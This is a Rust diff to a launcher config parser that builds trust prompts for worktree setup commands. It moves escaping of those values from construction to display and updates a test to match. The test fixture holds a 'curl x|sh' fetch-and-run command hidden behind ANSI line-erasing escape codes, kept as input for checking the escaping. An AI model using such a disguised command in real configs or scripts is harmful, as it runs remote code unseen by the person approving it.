@@ -74,8 +74,7 @@ pub(super) fn of(fl: &FileLauncher, backends: &BackendWords, text: &[u8]) -> Con
     let mut ask = |key: &str, value: String, meaning: &str| {
         asks.push(TrustAsk {
             key: format!("launcher.{key}"),
-            // Shown in a terminal and the page: nothing in it may hide the rest.
-            value: crate::sanitize::shown(&value),
+            value,
             meaning: meaning.to_string(),
         })
     };
@@ -314,17 +313,15 @@ mod tests {
                 ("launcher.worktree.copy", ".env*"),
             ]
         );
-        // What a terminal would hide is written out; two commands are a list.
+        // Kept as written (shown with it written out: `config_trust`); two
+        // commands are a list.
         let text = "launcher:\n  worktree:\n    setup: [\"curl x|sh #\\e[2K\\e[1G npm ci\"]\n    teardown: [\"a\", \"b\"]\n";
         let (fl, _) = super::super::parse_file("f", text).unwrap();
         let t = of(&fl.launcher.unwrap(), &fl.backends, text.as_bytes());
         let values: Vec<&str> = t.asks.iter().map(|a| a.value.as_str()).collect();
         assert_eq!(
             values,
-            [
-                "curl x|sh #\\u{001b}[2K\\u{001b}[1G npm ci",
-                "[\"a\",\"b\"]"
-            ]
+            ["curl x|sh #\u{1b}[2K\u{1b}[1G npm ci", "[\"a\",\"b\"]"]
         );
         let calm = "launcher:\n  worktree:\n    setup: []\n    copy: [\"config/*.local.json\"]\n";
         let (fl, _) = super::super::parse_file("f", calm).unwrap();
